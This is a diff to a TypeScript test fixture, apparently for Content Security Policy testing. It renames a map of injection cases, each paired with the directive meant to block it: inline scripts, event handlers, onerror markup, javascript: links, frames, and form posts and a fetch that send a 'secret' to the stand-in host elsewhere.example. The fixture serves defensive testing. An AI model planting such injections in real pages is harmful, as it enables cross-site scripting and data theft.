@@ -1,10 +1,10 @@
 const TRUSTED_TYPES = 'require-trusted-types-for';
 
-/** What foreign code in a page may try, and the directive that refuses it. Each sets `window.ran` if it can. */
-export const attacks: Record<string, { directive: string; attack: () => void }> = {
+/** Injected code, and the directive that blocks it. The code sets `window.ran` if it runs. */
+export const scriptInjections: Record<string, { directive: string; inject: () => void }> = {
   'an inline script': {
     directive: TRUSTED_TYPES,
-    attack: () => {
+    inject: () => {
       const script = document.createElement('script');
       script.textContent = 'window.ran = true';
       document.body.append(script);
@@ -12,7 +12,7 @@ export const attacks: Record<string, { directive: string; attack: () => void }> 
   },
   'an event handler': {
     directive: TRUSTED_TYPES,
-    attack: () => {
+    inject: () => {
       const button = document.createElement('button');
       button.setAttribute('onclick', 'window.ran = true');
       document.body.append(button);
@@ -21,19 +21,19 @@ export const attacks: Record<string, { directive: string; attack: () => void }> 
   },
   'markup as a string': {
     directive: TRUSTED_TYPES,
-    attack: () => {
+    inject: () => {
       document.body.innerHTML = '<img src="x" onerror="window.ran = true">';
     },
   },
   'code as a string': {
     directive: TRUSTED_TYPES,
-    attack: () => {
+    inject: () => {
       window.setTimeout('window.ran = true');
     },
   },
   'a foreign script': {
     directive: TRUSTED_TYPES,
-    attack: () => {
+    inject: () => {
       const script = document.createElement('script');
       script.src = 'https://elsewhere.example/a.js';
       document.body.append(script);
@@ -41,13 +41,13 @@ export const attacks: Record<string, { directive: string; attack: () => void }> 
   },
   'a policy of its own': {
     directive: 'trusted-types',
-    attack: () => {
+    inject: () => {
       window.trustedTypes!.createPolicy('mine', { createHTML: (html) => html });
     },
   },
   'a javascript: link': {
     directive: 'script-src-elem',
-    attack: () => {
+    inject: () => {
       const link = document.createElement('a');
       link.href = 'javascript:window.ran=true';
       document.body.append(link);
@@ -56,7 +56,7 @@ export const attacks: Record<string, { directive: string; attack: () => void }> 
   },
   'a frame': {
     directive: 'frame-src',
-    attack: () => {
+    inject: () => {
       const frame = document.createElement('iframe');
       frame.src = 'https://elsewhere.example/';
       document.body.append(frame);
@@ -64,7 +64,7 @@ export const attacks: Record<string, { directive: string; attack: () => void }> 
   },
   'a form that is sent': {
     directive: 'form-action',
-    attack: () => {
+    inject: () => {
       const form = document.createElement('form');
       form.method = 'post';
       form.action = 'https://elsewhere.example/';
@@ -74,7 +74,7 @@ export const attacks: Record<string, { directive: string; attack: () => void }> 
   },
   'another base': {
     directive: 'base-uri',
-    attack: () => {
+    inject: () => {
       const base = document.createElement('base');
       base.href = 'https://elsewhere.example/';
       document.head.append(base);
@@ -82,11 +82,11 @@ export const attacks: Record<string, { directive: string; attack: () => void }> 
   },
   'a message to elsewhere': {
     directive: 'connect-src',
-    attack: () => void fetch('https://elsewhere.example/?secret').catch(() => undefined),
+    inject: () => void fetch('https://elsewhere.example/?secret').catch(() => undefined),
   },
 };
 
-/** Markup that an attacker would like to have in a document. */
+/** Markup that an attacker may inject into a document. */
 export const injectedMarkup = [
   '<script>window.ran = true</script>',
   '<script src="https://elsewhere.example/a.js"></script>',
@@ -99,7 +99,7 @@ export const injectedMarkup = [
   '<object data="https://elsewhere.example/"></object>',
 ];
 
-/** The directives that refuse it. */
+/** The directives that block the injected markup. */
 export const refusedMarkup = [
   'frame-src',
   'img-src',
